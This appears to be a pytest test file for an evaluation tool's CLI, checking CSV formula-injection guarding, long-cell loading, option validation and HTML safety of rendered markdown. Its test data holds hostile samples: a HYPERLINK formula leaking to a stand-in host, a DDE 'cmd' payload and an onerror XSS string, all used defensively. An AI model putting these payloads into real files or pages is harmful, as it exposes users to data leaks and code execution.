"""Issue 40: hostile text in the data never runs where a reader opens the outputs, and long text is read.

CSV outputs guard cells a spreadsheet would run as formulas (OWASP "CSV injection": a leading apostrophe) and
evalkit reads its own CSV back unchanged; a CSV cell longer than the csv module's default limit (131,072
characters) is read as JSONL reads it. Each check runs the CLI on files written here.
"""
import csv
import io
import os
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from evalkit.base.data import load

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = ['=HYPERLINK("http://x.example/?leak","click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A2)",
           "\tTAB=1"]


def _evalkit(args, cwd):
    env = {**os.environ, "HF_HUB_OFFLINE": "1", "PYTHONPATH": str(ROOT), "RAGAS_DO_NOT_TRACK": "true"}
    return subprocess.run([sys.executable, "-m", "evalkit.cli", *args], cwd=cwd, env=env, capture_output=True,
                          text=True, timeout=600)


def _cells(path: Path) -> list[dict]:
    """The CSV's cells exactly as a spreadsheet receives them (the csv module: no evalkit on the way)."""
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


@pytest.mark.parametrize("chunked", [False, True])
def test_formula_cells_are_guarded_and_read_back_as_written(tmp_path, chunked):
    data = tmp_path / "in.jsonl"
    pd.DataFrame({"id": [f"h{i}" for i in range(len(HOSTILE))], "question": HOSTILE,
                  "answer": HOSTILE, "contexts": [["The fee is 40 euros."]] * len(HOSTILE),
                  "system": ["=1+1"] * len(HOSTILE)}).to_json(data, orient="records", lines=True)
    out = tmp_path / "out.csv"
    args = ["score", str(data), "-o", str(out), "--metrics", "relevance,completeness", "-q"]
    r = _evalkit(args + (["--chunk-size", "2"] if chunked else []), tmp_path)
    assert r.returncode == 0, r.stderr
    rows = _cells(out)
    assert [row["answer"] for row in rows] == ["'" + h for h in HOSTILE]  # every formula start guarded
    assert {row["system"] for row in rows} == {"'=1+1"}
    assert all(not v.startswith(("=", "+", "-", "@", "\t")) for row in rows for v in row.values())
    assert all(row["relevance"][:1].isdigit() for row in rows)  # numbers are numbers, never guarded
    back = load(out)  # evalkit reads its own CSV back as the text was
    assert back["answer"].tolist() == HOSTILE and back["system"].tolist() == ["=1+1"] * len(HOSTILE)


def test_an_ordinary_apostrophe_is_left_alone(tmp_path):
    data = tmp_path / "in.csv"
    data.write_text("question,answer\nWhat is it?,'quoted' text\nAnd this?,it's fine\nNegative?,'-5\n")
    df = load(data)
    # by hand: only an apostrophe before a formula character is the guard; the others are the author's
    assert df["answer"].tolist() == ["'quoted' text", "it's fine", "-5"]


def test_a_csv_cell_longer_than_the_csv_modules_limit_is_scored(tmp_path):
    import csv as csv_module

    before = csv_module.field_size_limit()
    context = "The fee is 40 euros. " * 8000  # 168,000 characters: over 131,072
    path = tmp_path / "long.csv"
    pd.DataFrame({"question": ["What is the fee?", "Is there a fee?"], "answer": ["40 euros.", "Yes."],
                  "contexts": [context, "There is a fee."]}).to_csv(path, index=False)
    r = _evalkit(["score", str(path), "-o", str(tmp_path / "out.jsonl"), "--metrics", "relevance", "-q"], tmp_path)
    assert r.returncode == 0, r.stderr
    assert "Traceback" not in r.stderr and len(pd.read_json(tmp_path / "out.jsonl", lines=True)) == 2
    assert len(load(path).loc[0, "contexts"][0]) == len(context.strip()) or \
        len(load(path).loc[0, "contexts"][0]) == len(context)
    assert csv_module.field_size_limit() == before  # the module's limit is given back


HOSTILE_SYSTEM = "a` <img src=x onerror=alert(5)>"


class _Tags:
    """The elements of rendered HTML, with their text (Python's own HTML parser: no project code on the way)."""

    def __init__(self, html_text: str):
        from html.parser import HTMLParser

        self.tags, self.text = [], []
        outer = self

        class P(HTMLParser):
            def handle_starttag(self, tag, attrs):
                outer.tags.append((tag, dict(attrs)))

            def handle_data(self, data):
                outer.text.append(data)

        P().feed(html_text)


def test_a_backtick_in_a_system_name_stays_inside_the_papers_code_span(tmp_path):
    import markdown_it
    import mistune

    from evalkit.cli import main

    n = 6
    df = pd.DataFrame({"id": [f"q{i}" for i in range(n)] * 2, "question": [f"Q{i}?" for i in range(n)] * 2,
                       "system": ["base"] * n + [HOSTILE_SYSTEM] * n,
                       "relevance": [0.2 + 0.1 * i for i in range(n)] * 2, "correct": [True, False] * n})
    src = tmp_path / "results.parquet"
    df.to_parquet(src, index=False)
    assert main(["paper", str(src), "-o", str(tmp_path / "paper"), "--resamples", "50"]) == 0
    md = (tmp_path / "paper" / "methods.md").read_text()
    assert HOSTILE_SYSTEM in md
    # two real renderers: markdown-it (CommonMark) and mistune (what nbconvert and JupyterLab's exports use)
    for html_text in (markdown_it.MarkdownIt().render(md), mistune.html(md)):
        page = _Tags(html_text)
        assert "img" not in [t for t, _ in page.tags] and not any("onerror" in a for _, a in page.tags)
        assert HOSTILE_SYSTEM in "".join(page.text)  # shown as the text it is, inside a code element
        assert "code" in [t for t, _ in page.tags]


def test_summary_by_system_with_a_missing_system_names_that_group(tmp_path):
    data = tmp_path / "s.jsonl"
    data.write_text('{"question":"Q1?","answer":"A.","system":"a","relevance":0.5}\n'
                    '{"question":"Q2?","answer":"B.","system":null,"relevance":0.7}\n'
                    '{"question":"Q3?","answer":"C.","system":"b","relevance":0.2}\n')
    r = _evalkit(["summary", str(data), "--by", "system"], tmp_path)
    assert r.returncode == 0 and "Traceback" not in r.stderr, r.stderr
    header, row = r.stdout.splitlines()[0], r.stdout.splitlines()[2]
    # by hand: one row per group, so each mean is that row's value; the group without a system is named, last
    assert header.index("a: mean") < header.index("b: mean") < header.index("(missing): mean")
    values = [v for v in row.split() if v[0].isdigit() and "." in v]
    assert values == ["0.500", "0.200", "0.700"]


@pytest.mark.parametrize("text,message", [
    # a misspelt key of a rule: refused with the key it meant, before any row is read
    ("metrics: {hallucination: {threshold: 0.4, flag: above, inclusiv: false}}",
     "metrics.hallucination.inclusiv: unknown key; did you mean 'inclusive'?"),
    ("metrics: {hallucination: {threshold: 0.4}}\ntresholds: {x: 1}", "tresholds: unknown key"),
    ("metrics: {hallucination: {threshold: 0.4}}\ncalibrated_onn: x", "calibrated_onn: unknown key; did you mean 'calibrated_on'?"),
])
def test_an_unknown_key_in_a_threshold_profile_is_refused(tmp_path, text, message):
    from evalkit.decide.profiles import ProfileError, thresholds_from_profile

    p = tmp_path / "profile.yaml"
    p.write_text(text + "\n")
    with pytest.raises(ProfileError) as e:
        thresholds_from_profile(p)
    assert str(e.value).startswith(f"{p}: {message}")
    res = tmp_path / "res.csv"
    res.write_text("hallucination,relevance,completeness\n0.3,0.9,1.0\n")
    r = _evalkit(["verdict", str(res), "--thresholds", str(p), "-o", str(tmp_path / "v.csv")], tmp_path)
    assert r.returncode == 2 and message in r.stderr and not (tmp_path / "v.csv").exists()


def test_a_system_named_none_or_true_keeps_its_name(tmp_path):
    data = tmp_path / "in.csv"
    data.write_text("question,answer,system,correct\nQ1?,A.,None,TRUE\nQ2?,B.,TRUE,FALSE\nQ3?,C.,,TRUE\n"
                    "Q4?,D.,NULL,FALSE\n")
    df = load(data)
    # by hand: names as written; the empty cell is the one row without a system; a label column is still read
    # as booleans (pandas' guessing is kept for columns that are not names)
    assert df["system"].tolist()[:2] == ["None", "TRUE"] and df["system"].tolist()[3] == "NULL"
    assert df["system"].isna().tolist() == [False, False, True, False]
    assert df["correct"].tolist() == [True, False, True, False]


@pytest.mark.parametrize("option,value,message", [
    ("--judge-timeout", "nan", "argument --judge-timeout: must be a finite number of seconds above 0, got 'nan'"),
    ("--judge-timeout", "inf", "argument --judge-timeout: must be a finite number of seconds above 0, got 'inf'"),
    ("--judge-timeout", "0", "argument --judge-timeout: must be a finite number of seconds above 0, got '0'"),
    ("--chunk-size", "0", "argument --chunk-size: must be a whole number >= 1, got '0'"),
    ("--judge-concurrency", "0", "argument --judge-concurrency: must be a whole number >= 1, got '0'"),
    ("--judge-max-retries", "-1", "argument --judge-max-retries: must be a whole number >= 0, got '-1'"),
])
def test_an_option_out_of_range_is_refused_by_its_name_before_any_work(tmp_path, option, value, message):
    data = tmp_path / "in.csv"
    data.write_text("question,answer\nQ?,A.\n")
    r = _evalkit(["score", str(data), "-o", str(tmp_path / "out.csv"), f"{option}={value}"], tmp_path)
    assert r.returncode == 2 and r.stderr.strip().splitlines()[-1].endswith(message), r.stderr
    assert not (tmp_path / "out.csv").exists() and not (tmp_path / "out.csv.parts").exists()


def test_no_formula_guard_writes_the_text_exactly(tmp_path):
    data = tmp_path / "in.jsonl"
    pd.DataFrame({"question": ["Q?"], "answer": ["=1+1"]}).to_json(data, orient="records", lines=True)
    for flag, expected in ((["--no-formula-guard"], "=1+1"), ([], "'=1+1")):
        out = tmp_path / f"out{len(flag)}.csv"
        r = _evalkit(["score", str(data), "-o", str(out), "--metrics", "relevance", "-q", *flag], tmp_path)
        assert r.returncode == 0, r.stderr
        assert _cells(out)[0]["answer"] == expected
    jsonl = tmp_path / "out.jsonl"  # JSONL (and Parquet) keep the text exact: no spreadsheet opens them as formulas
    assert _evalkit(["score", str(data), "-o", str(jsonl), "--metrics", "relevance", "-q"], tmp_path).returncode == 0
    assert pd.read_json(jsonl, lines=True).loc[0, "answer"] == "=1+1"


def test_ten_thousand_columns_load_whole(tmp_path):
    """Issue 40: such a file did not load in 15 minutes (columns inserted one by one); benchmarks/bench_width.py
    measures the time against the width. Here: every column arrives, in order, with its value."""
    width = 10_000
    path = tmp_path / "wide.csv"
    path.write_text(",".join(["question", "answer"] + [f"x{i}" for i in range(width)]) + "\n"
                    + ",".join(["Q?", "A."] + [str(i) for i in range(width)]) + "\n")
    df = load(path)
    assert df.shape == (1, width + 3) and list(df.columns[-3:]) == ["x9997", "x9998", "x9999"]
    assert int(df.loc[0, "x4321"]) == 4321


def _alerted_in_chromium(page_html: str, tmp_path: Path) -> bool:
    """Whether a script ran when Chromium opened the page: alert() is replaced by a marker on <html>."""
    from .test_browser import chromium

    spy = "<script>window.alert = function () { document.documentElement.setAttribute('data-alerted', '1'); };</script>"
    page = tmp_path / "page.html"
    page.write_text(f"<!doctype html><html><head><meta charset='utf-8'>{spy}</head><body>{page_html}</body></html>")
    dom = chromium("--dump-dom", "--virtual-time-budget=3000", page.resolve().as_uri()).stdout
    return 'data-alerted="1"' in dom


def test_the_papers_markdown_runs_nothing_in_chromium(tmp_path):
    import markdown_it

    from evalkit.cli import main

    from .test_browser import CHROMIUM

    if not CHROMIUM.exists():
        pytest.skip(f"headless Chromium not found at {CHROMIUM}")
    # the control: the same name in a code span built the old way runs the script, so the probe can see one
    assert _alerted_in_chromium(markdown_it.MarkdownIt().render(f"`{HOSTILE_SYSTEM}`"), tmp_path)
    n = 6
    df = pd.DataFrame({"id": [f"q{i}" for i in range(n)] * 2, "question": [f"Q{i}?" for i in range(n)] * 2,
                       "system": ["base"] * n + [HOSTILE_SYSTEM] * n,
                       "relevance": [0.2 + 0.1 * i for i in range(n)] * 2})
    src = tmp_path / "results.parquet"
    df.to_parquet(src, index=False)
    assert main(["paper", str(src), "-o", str(tmp_path / "paper"), "--resamples", "50"]) == 0
    md = (tmp_path / "paper" / "methods.md").read_text()
    assert not _alerted_in_chromium(markdown_it.MarkdownIt().render(md), tmp_path)
